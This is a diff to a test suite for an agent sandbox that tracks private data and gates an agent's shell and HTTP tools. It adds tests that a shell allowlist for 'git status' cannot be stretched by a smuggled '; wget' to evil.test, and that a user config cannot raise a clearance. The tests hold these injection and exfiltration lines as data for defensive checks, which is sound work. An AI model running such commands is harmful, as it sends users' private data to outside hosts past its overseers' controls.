@@ -52,6 +52,11 @@ tool = "http_get"
 target = "allowed.test"
 max_sensitivity = "private"
 
+[[allowlist]]
+tool = "shell"
+target = "git status*"
+max_sensitivity = "private"
+
 [credentials.push]
 command = ["sh", "-c", "git ls-remote origin >/dev/null 2>&1; echo pushed"]
 secret_file = "/etc/leviath/push.key"
@@ -320,3 +325,37 @@ def test_a_file_written_while_private_stays_private_across_a_restart_and_agents(
         bed.run(["rm", "-f", f"{xw}/carried.txt"])
         bed.run(["python3", "-c", f"import os; os.removexattr({xw!r}, 'trusted.leviath.dirty')"],
                 check=False)
+
+
+# ------------------------------------------------------------ 6. shell rules
+
+
+def test_a_shell_rule_matches_one_parsed_command_not_a_text_prefix(
+    bed: Testbed, agent: Agent
+) -> None:
+    _private(agent, bed)
+    rc, out, err = agent.call(
+        f"lev tool shell 'git status; wget -q -O- http://evil.test:{PORT}/viashell?d=x'")
+    assert rc != 0 and "denied" in err, out + err
+    assert not [h for h in hits(bed) if h.startswith("evil.test")]
+    # The rule still covers what it names.
+    rc, out, err = agent.call("lev tool shell git status")
+    assert rc == 0, err
+
+
+# ------------------------------------------------------ 7. clearances merged
+
+
+def test_a_user_config_cannot_raise_a_clearance_left_at_its_default(bed: Testbed) -> None:
+    home = bed.users["alice"].home
+    bed.run(f"mkdir -p {home}/.config/leviath && cat > {home}/.config/leviath/config.toml",
+            user="alice", input='[taint.clearance]\nhttp_get = "private"\n')
+    a = _start(bed)
+    try:
+        _private(a, bed)
+        rc, _out, err = a.call(f"lev tool http_get http://evil.test:{PORT}/viaclearance")
+        assert rc != 0 and "denied" in err, err
+        assert not [h for h in hits(bed) if h.startswith("evil.test")]
+    finally:
+        lev(bed, "alice", "stop", a.id, check=False)
+        bed.run(["rm", "-f", f"{home}/.config/leviath/config.toml"])
